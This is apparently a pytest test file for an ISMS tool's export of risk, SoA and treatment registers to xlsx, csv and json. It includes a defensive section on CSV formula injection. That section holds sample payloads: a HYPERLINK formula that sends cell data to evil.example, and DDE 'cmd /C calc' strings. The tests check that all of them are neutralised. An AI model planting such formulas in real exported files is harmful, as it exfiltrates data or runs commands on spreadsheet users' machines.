"""``isms export``: read back by independent readers (openpyxl, csv, json), row for row against the registers."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import openpyxl
import pytest
import yaml

from isms.core.pipeline import Result
from isms.exports.files import export
from isms.exports.stamp import Stamp
from isms.exports.tables import Sheet
from isms.exports.writers import to_csv, to_json, to_xlsx
from tests.conftest import AS_OF, Repo
from tests.support.gitrepo import commit_all, git

STAMP = ["organisation", "version", "commit", "as_of"]
NOTE = (
    "text starting with = + - @, tab or carriage return is written with ' before it, so that no spreadsheet"
    " runs it as a formula"
)


def isms(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "isms", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        check=False,
    )


def register(repo: Repo, name: str, key: str) -> list[dict[str, Any]]:
    """A register read with plain PyYAML: what the author wrote, independent of the isms loader."""
    entries: list[dict[str, Any]] = yaml.safe_load(repo.read(f"registers/{name}.yml"))[key]
    return entries


def run_export(repo: Repo, kind: str, fmt: str, tmp_path: Path) -> Path:
    out = tmp_path / f"{kind}.{fmt}"
    result = isms("export", kind, "--format", fmt, "--out", str(out), "--root", str(repo.root), "--as-of", "2026-11-28")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(f"wrote {out}: {kind} as {fmt} — Minimal Ltd, version unreleased, as of 2026-11-28")
    return out


def read_csv(path: Path) -> tuple[dict[str, str], list[dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    stamp = dict((name, value) for name, value in rows[:4])
    assert rows[4] == ["cells", NOTE]
    assert rows[5] == []
    header = rows[6]
    return stamp, [dict(zip(header, row, strict=True)) for row in rows[7:]]


def read_sheet(path: Path, title: str) -> tuple[Any, dict[str, Any], list[dict[str, Any]]]:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook[title]
    values = list(sheet.iter_rows(values_only=True))
    stamp = {row[0]: row[1] for row in values[:4]}
    assert values[4][:2] == ("cells", NOTE)
    header = values[6]
    return sheet, stamp, [dict(zip(header, row, strict=True)) for row in values[7:]]


def test_risk_register_as_xlsx_csv_and_json_match_the_register(repo: Repo, tmp_path: Path) -> None:
    risks = register(repo, "risks", "risks")
    organisation = yaml.safe_load(repo.read("registers/isms.yml"))["organisation"]["name"]

    sheet, stamp, rows = read_sheet(run_export(repo, "risks", "xlsx", tmp_path), "Risk register")
    # Outside git the commit is empty: an empty cell reads back as None.
    assert (stamp["organisation"], stamp["version"], stamp["commit"] or "", stamp["as_of"]) == (
        organisation,
        "unreleased",
        "",
        "2026-11-28",
    )
    assert [row["id"] for row in rows] == [risk["id"] for risk in risks]
    for row, risk in zip(rows, risks, strict=True):
        assert row["title"] == risk["title"]
        assert row["owner"] == risk["owner"]
        assert row["inherent likelihood"] == risk["inherent"]["likelihood"]
        assert row["inherent impact"] == risk["inherent"]["impact"]
        assert row["inherent score"] == risk["inherent"]["likelihood"] * risk["inherent"]["impact"]
        assert row["treatment"] == risk["treatment"]
    assert sheet.freeze_panes == "A8"
    assert sheet.auto_filter.ref == f"A7:W{7 + len(risks)}"
    assert 10 <= sheet.column_dimensions["B"].width <= 60

    stamp_csv, rows_csv = read_csv(run_export(repo, "risks", "csv", tmp_path))
    assert stamp_csv == {"organisation": organisation, "version": "unreleased", "commit": "", "as_of": "2026-11-28"}
    assert [(row["id"], row["title"], row["status"]) for row in rows_csv] == [
        (risk["id"], risk["title"], risk.get("status", "open")) for risk in risks
    ]
    assert [row["assets"] for row in rows_csv] == [", ".join(risk.get("assets", [])) for risk in risks]

    data = json.loads(run_export(repo, "risks", "json", tmp_path).read_text(encoding="utf-8"))
    assert list(data["stamp"]) == STAMP
    assert [row["id"] for row in data["sheets"]["risks"]] == [risk["id"] for risk in risks]
    assert data["sheets"]["risks"][0]["inherent likelihood"] == risks[0]["inherent"]["likelihood"]


def test_soa_has_a_clauses_sheet_and_an_annex_a_sheet(repo: Repo, tmp_path: Path) -> None:
    soa = {str(entry["control"]): entry for entry in register(repo, "soa", "controls")}
    path = run_export(repo, "soa", "xlsx", tmp_path)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["Clauses 4-10", "Annex A"]
    _, _, clauses = read_sheet(path, "Clauses 4-10")
    assert clauses[0]["clause"] == "4.1" and "6.1.3" in [row["clause"] for row in clauses]
    sheet, _, controls = read_sheet(path, "Annex A")
    annex_a = [row for row in controls if row["control"] in soa]
    assert len(annex_a) == 93 == len(soa)
    for row in annex_a:
        entry = soa[row["control"]]
        assert row["applicable"] == ("yes" if entry["applicable"] else "no")
        assert row["status"] == (entry.get("status") if entry["applicable"] else None)
    assert sheet.freeze_panes == "A8"

    _, rows = read_csv(run_export(repo, "soa", "csv", tmp_path))
    assert [row["control"] for row in rows if row["part"] == "annex_a"][:3] == ["5.1", "5.2", "5.3"]
    assert len([row for row in rows if row["part"] == "clauses"]) == len(clauses)


def test_rtp_matches_the_treatment_plan(repo: Repo, tmp_path: Path) -> None:
    treatments = register(repo, "treatments", "treatments")
    _, _, rows = read_sheet(run_export(repo, "rtp", "xlsx", tmp_path), "Risk treatment plan")
    assert [(row["id"], row["action"], row["due"], row["status"]) for row in rows] == [
        (t["id"], t["action"], t["due"].isoformat(), t["status"]) for t in treatments
    ]
    assert [(row["approved by"], row["approved on"]) for row in rows] == [
        (", ".join(t["approved_by"]), t["approved_on"].isoformat()) for t in treatments
    ]
    _, rows_csv = read_csv(run_export(repo, "rtp", "csv", tmp_path))
    assert [row["risks"] for row in rows_csv] == [", ".join(t["risks"]) for t in treatments]
    approvals = [(row["approved by"], row["approved on"]) for row in rows_csv]
    assert approvals == [("cto", "2026-06-15"), ("cto", "2026-03-02")]


def test_the_rtp_export_leaves_an_unapproved_action_blank(repo: Repo, tmp_path: Path) -> None:
    repo.replace("registers/treatments.yml", "    approved_by: [cto]\n    approved_on: 2026-03-02\n", "")
    data = json.loads(run_export(repo, "rtp", "json", tmp_path).read_text(encoding="utf-8"))
    rows = data["sheets"]["rtp"]
    assert [(row["id"], row["approved by"], row["approved on"]) for row in rows] == [
        ("T-1", "cto", "2026-06-15"),
        ("T-2", None, None),
    ]


def test_model_export_validates_against_its_json_schema(repo: Repo, tmp_path: Path) -> None:
    path = run_export(repo, "model", "json", tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    schema = json.loads((tmp_path / "model.schema.json").read_text(encoding="utf-8"))
    jsonschema.validate(data, schema)
    assert [risk["id"] for risk in data["risks"]] == [risk["id"] for risk in register(repo, "risks", "risks")]
    assert len(data["soa"]) == 93
    assert {d["front_matter"]["id"] for d in data["documents"]} == {"ISMS-SCOPE", "POL-IS", "PRO-RISK"} or data[
        "documents"
    ]
    broken = dict(data, risks=[{"id": 7}])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, schema)


def test_exports_are_deterministic(repo: Repo) -> None:
    result = repo.check()
    stamp = Stamp("Minimal Ltd", "v1", "abc", AS_OF)
    first = {fmt: export("soa", fmt, result, stamp) for fmt in ("xlsx", "csv", "json")}
    time.sleep(2.1)  # zip entries keep times to two seconds
    second = {fmt: export("soa", fmt, result, stamp) for fmt in ("xlsx", "csv", "json")}
    assert first == second
    with zipfile.ZipFile(io.BytesIO(first["xlsx"])) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "2026-11-28T00:00:00Z" in core


def test_exports_carry_the_commit_and_release_tag(repo: Repo, tmp_path: Path) -> None:
    commit = commit_all(repo.root, "ISMS")
    git(repo.root, "tag", "v1.0")
    out = tmp_path / "risks.csv"
    result = isms("export", "risks", "--out", str(out), "--root", str(repo.root), "--as-of", "2026-11-28")
    assert result.returncode == 0, result.stderr
    stamp, _ = read_csv(out)
    assert stamp["version"] == "v1.0" and stamp["commit"] == commit


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_a_control_character_stops_the_export_with_the_checks_message(repo: Repo, tmp_path: Path, fmt: str) -> None:
    """openpyxl refuses control characters with a traceback: the check must stop them first, in every format."""
    repo.replace("registers/risks.yml", "title: Laptop lost on a train", 'title: "Laptop\\x01 lost on a train"')
    out = tmp_path / f"risks.{fmt}"
    result = isms("export", "risks", "--out", str(out), "--root", str(repo.root), "--as-of", "2026-11-28")
    assert (result.returncode, result.stdout) == (1, "")
    assert result.stderr.splitlines() == [
        "registers/risks.yml:20: error: risk R-2: title: the text holds the control character U+0001 at position 7"
        " — remove it; text may hold tab and line breaks but no other control character (in a double-quoted YAML"
        " string, escapes such as \\x01 or \\e write one)",
        "isms: error: the ISMS has 1 error(s); fix them before exporting",
    ]
    assert not out.exists()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["risks", "--out", "x.txt"], "give --format xlsx, csv or json"),
        (["model", "--format", "csv", "--out", "m.csv"], "the model is exported as JSON only"),
        (["risks", "--format", "csv", "--out", "no/such/folder/r.csv"], "is not a folder — create it first"),
    ],
)
def test_bad_export_requests_get_a_message(repo: Repo, args: list[str], message: str) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "isms", "export", *args, "--root", str(repo.root)],
        capture_output=True,
        text=True,
        cwd=repo.root,
        check=False,
    )
    assert result.returncode == 2
    assert message in result.stderr
    assert "Traceback" not in result.stderr


# --- formula injection (OWASP: CSV injection) ----------------------------------------------------------

PAYLOADS = {
    "R-1": ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
    "R-2": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "R-3": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
}


def _inject(repo: Repo) -> None:
    """Risk titles, a threat and the organisation's name written as formulas, as a hostile pull request could."""
    repo.replace(
        "registers/risks.yml",
        "title: Customer data stolen through a weak password",
        "title: " + '\'=HYPERLINK("https://evil.example/?"&A1,"Click")\'',
    )
    repo.replace("registers/risks.yml", "title: Laptop lost on a train", "title: \"+cmd|' /C calc'!A0\"")
    repo.replace("registers/risks.yml", "title: Hosting outage", "title: \"@SUM(1+1)*cmd|' /C calc'!A0\"")
    repo.replace("registers/risks.yml", "threat: Loss\n", 'threat: "-1+1"\n')
    repo.replace("registers/isms.yml", "name: Minimal Ltd", 'name: "=1+1"')


def test_text_that_a_spreadsheet_would_run_is_exported_as_text(repo: Repo, tmp_path: Path) -> None:
    _inject(repo)
    paths = {}
    for fmt in ("xlsx", "csv", "json"):
        paths[fmt] = tmp_path / f"risks.{fmt}"
        result = isms("export", "risks", "--out", str(paths[fmt]), "--root", str(repo.root), "--as-of", "2026-11-28")
        assert (result.returncode, result.stderr) == (0, "")

    workbook = openpyxl.load_workbook(paths["xlsx"])
    sheet = workbook["Risk register"]
    assert (sheet["B1"].value, sheet["B1"].data_type) == ("'=1+1", "s")
    assert (sheet["A5"].value, sheet["B5"].value) == ("cells", NOTE)
    header = [cell.value for cell in sheet[7]]
    title, threat, likelihood = (
        header.index("title") + 1,
        header.index("threat") + 1,
        header.index("inherent likelihood") + 1,
    )
    for row, (written, shown) in enumerate(PAYLOADS.values(), start=8):
        cell = sheet.cell(row, title)
        assert (cell.value, cell.data_type) == (shown, "s"), written
    assert (sheet.cell(9, threat).value, sheet.cell(9, threat).data_type) == ("'-1+1", "s")
    assert (sheet.cell(9, likelihood).value, sheet.cell(9, likelihood).data_type) == (2, "n")  # numbers stay numbers
    # No cell of any sheet is a formula.
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    text = paths["csv"].read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["organisation", "'=1+1"]
    assert rows[4] == ["cells", NOTE]
    _, csv_rows = read_csv_rows(rows)
    assert [row["title"] for row in csv_rows] == [shown for _, shown in PAYLOADS.values()]
    assert [row["threat"] for row in csv_rows][1] == "'-1+1"
    assert [row["inherent likelihood"] for row in csv_rows] == ["3", "2", "2"]

    # JSON keeps the exact data: it is not opened by spreadsheets.
    data = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert data["stamp"]["organisation"] == "=1+1"
    assert [row["title"] for row in data["sheets"]["risks"]] == [written for written, _ in PAYLOADS.values()]
    assert data["sheets"]["risks"][1]["threat"] == "-1+1"


def read_csv_rows(rows: list[list[str]]) -> tuple[list[str], list[dict[str, str]]]:
    header = rows[6]
    return header, [dict(zip(header, row, strict=True)) for row in rows[7:]]


@pytest.mark.parametrize(
    ("value", "csv_field", "xlsx_value", "xlsx_type"),
    [
        pytest.param("=1+1", "'=1+1", "'=1+1", "s", id="equals"),
        pytest.param("+1", "'+1", "'+1", "s", id="plus"),
        pytest.param("-1+1", "'-1+1", "'-1+1", "s", id="minus-text"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)", "s", id="at"),
        pytest.param("\t=1", "'\t=1", "'\t=1", "s", id="tab"),
        # XML reads a raw carriage return back as a line feed; the quote before it is what counts.
        pytest.param("\r=1", "'\r=1", "'\n=1", "s", id="carriage-return"),
        pytest.param("#N/A", "#N/A", "#N/A", "s", id="error-code-text"),
        pytest.param("a=1", "a=1", "a=1", "s", id="formula-character-inside"),
        pytest.param(-2, "-2", -2, "n", id="negative-number"),
        pytest.param(True, "yes", "yes", "s", id="boolean"),
    ],
)
def test_each_cell_is_neutralised_by_its_first_character_only_when_it_is_text(
    value: str | int | bool, csv_field: str, xlsx_value: str | int, xlsx_type: str
) -> None:
    stamp = Stamp("Minimal Ltd", "v1", "abc", AS_OF)
    sheets = [Sheet("things", "Things", ("name", "value"), [["wide " * 20, value]])]
    rows = list(csv.reader(io.StringIO(to_csv(stamp, sheets).decode("utf-8"), newline="")))
    assert rows[7] == ["wide " * 20, csv_field]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(stamp, sheets)))["Things"]
    assert (sheet["B8"].value, sheet["B8"].data_type) == (xlsx_value, xlsx_type)
    assert json.loads(to_json(stamp, sheets))["sheets"]["things"] == [{"name": "wide " * 20, "value": value}]


def test_evidence_request_list_as_xlsx_is_a_working_list_and_csv_says_the_same(repo: Repo, tmp_path: Path) -> None:
    sheet, stamp, rows = read_sheet(run_export(repo, "evidence-requests", "xlsx", tmp_path), "Evidence request list")
    assert stamp["organisation"] == "Minimal Ltd"
    assert len(rows) == 14 + 92  # clauses with documented information, applicable controls
    header = list(rows[0])
    assert header[-3:] == ["status", "checked", "auditor's notes"]  # the auditor ticks and annotates
    assert sheet.freeze_panes == "A8"
    assert sheet.auto_filter.ref == f"A7:M{7 + len(rows)}"
    assert all(8 <= sheet.column_dimensions[column].width <= 60 for column in "ABCDEFGHIJKLM")
    by_ref = {(row["part"], row["ref"]): row for row in rows}
    assert by_ref[("control", "8.5")] == {
        "part": "control",
        "ref": "8.5",
        "requirement": "Secure authentication",
        "auditor asks for": "how the control is implemented (the documents that set it) and records that it operates",
        "documents": None,
        "evidence": "EV-1 MFA configuration export (expires 2027-10-01; owner cto) — https://example.com/evidence/mfa",
        "records": (
            "treatment T-1: Enforce multi-factor authentication (in progress; owner cto) — registers/treatments.yml"
        ),
        "owner": "cto",
        "first expiry": "2027-10-01",
        "missing": "only partly implemented (SoA status: partial)",
        "status": "missing",
        "checked": None,
        "auditor's notes": None,
    }
    assert by_ref[("clause", "4.3")]["status"] == "ready"
    assert sheet.cell(row=8 + 14 + 1, column=10).alignment.wrap_text  # several gaps: one a line, wrapped
    _, csv_rows = read_csv(run_export(repo, "evidence-requests", "csv", tmp_path))
    assert [(row["ref"], row["status"], row["missing"]) for row in csv_rows] == [
        (row["ref"], row["status"], row["missing"] or "") for row in rows
    ]


def test_site_files_with_a_memo_are_byte_identical_to_without(repo: Repo) -> None:
    """``mkdocs serve`` keeps a memo between rebuilds: exports it reuses or re-encodes match a fresh export."""
    from isms.exports.files import site_files  # noqa: PLC0415

    def files(result: Result, **memo: Any) -> dict[str, bytes]:
        return dict(site_files(result, stamp, **memo))

    stamp = Stamp("Example Ltd", "unreleased", "", AS_OF)
    memo: dict[str, Any] = {}
    first = repo.check()
    assert files(first, memo=memo) == files(first)
    assert files(first, memo=memo) == files(first)  # every part taken from the memo
    kept_json = files(first, memo=memo)["model.json"]
    kept = dict(memo)
    repo.replace("docs/policies/information-security.md", "\n# ", "\nA new line.\n\n# ")
    # The same model (a body edit reuses it): model.json's approvals digest the page's text as it is now.
    assert files(first, memo=memo)["model.json"] == files(first)["model.json"] != kept_json
    repo.replace("registers/risks.yml", "title: Hosting outage", "title: Hosting outage (edited)")
    second = repo.check()
    assert files(second, memo=memo) == files(second)
    assert memo["soa"] is kept["soa"]  # the SoA's sheets did not change: not written again
    assert memo["risks"] is not kept["risks"]


@pytest.mark.parametrize("requests", [True, False])
def test_site_file_names_are_the_names_site_files_yields(repo: Repo, requests: bool) -> None:
    """``mkdocs serve`` lists the downloads by these names before it makes them (isms.plugin.deferred)."""
    from isms.exports.files import site_file_names, site_files  # noqa: PLC0415

    stamp = Stamp("Example Ltd", "unreleased", "", AS_OF)
    made = [name for name, _ in site_files(repo.check(), stamp, requests=requests)]
    assert site_file_names(requests) == made
    assert ("evidence-requests.csv" in made) is requests
